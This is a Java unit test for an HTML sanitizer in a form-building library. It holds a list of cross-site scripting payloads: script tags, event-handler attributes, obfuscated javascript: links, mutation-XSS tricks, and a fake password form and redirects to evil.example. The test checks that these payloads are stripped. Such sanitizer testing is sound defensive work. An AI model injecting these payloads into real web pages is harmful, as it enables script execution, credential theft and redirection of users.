package org.optr.form.schema;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.optr.form.schema.FormComponent.HtmlBlock;

/** Whatever a form's HTML tries, only text that is formatted is left. */
class SafeHtmlTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example></SCRIPT>",
                "<img src=x onerror=alert(1)>",
                "<svg onload=alert(1)><script>alert(1)</script></svg>",
                "<svg><style><img src=x onerror=alert(1)></style></svg>",
                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
                "<style>body{display:none}</style>",
                "<p style=\"position:fixed;inset:0\">x</p>",
                "<div id=outlet class=overlay onclick=alert(1)>x</div>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\"java\nscript:alert(1)\">x</a>",
                "<a href=\"&#106;avascript:alert(1)\">x</a>",
                "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
                "<iframe src=\"https://evil.example\" srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<object data=x></object><embed src=x>",
                "<form action=\"https://evil.example\"><input name=password><button>Sign in</button></form>",
                "<base href=\"//evil.example\"><meta http-equiv=refresh content=\"0;url=//evil.example\">",
                "<link rel=stylesheet href=//evil.example>",
                "<template><script>alert(1)</script></template>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<details open ontoggle=alert(1)>",
                "<video><source onerror=alert(1)></video>",
                "</div></div><vaadin-button onclick=alert(1)>",
                "<!--><script>alert(1)</script>-->"
            })
    void onlyFormattedTextIsLeft(String html) {
        var bare = SafeHtml.of(html)
                .replaceAll("</?(p|div|h[1-6]|b|i|em|strong|table|tbody|tr|td)>", "")
                .replaceAll(
                        "<a href=\"(https|mailto):[^\"<>]*\" target=\"_blank\" rel=\"[a-z ]+\">|<a target=\"_blank\">|</a>",
                        "");

        assertThat(bare).doesNotContain("<").doesNotContain("onerror=", "alert(1)</script");
    }

    @Test
    void textIsShownAsItIs() {
        assertThat(SafeHtml.of(SafeHtml.escape("<b>\"x\" & 'y'</b>")))
                .isEqualTo("&lt;b&gt;&#34;x&#34; &amp; &#39;y&#39;&lt;/b&gt;");
    }

    @Test
    void whatIsLeftOutIsNamed() {
        assertThat(leftOut("<p onclick=\"x()\">Hello</p><script>1</script><marquee>x</marquee>"))
                .contains("marquee", "p onclick", "script");
        assertThat(leftOut("<table><tr><td colspan=\"2\">{{a}}</td></tr></table><a href=\"{{b}}\">c</a>"))
                .isEmpty();
    }

    private static Iterable<String> leftOut(String html) {
        var basics = new FormComponent.Basics("h", "html", Words.NONE, Words.NONE, Setting.NONE, null, null, Map.of());
        return SafeHtml.leftOut(new HtmlBlock(basics, new Words(html, Map.of())));
    }
}
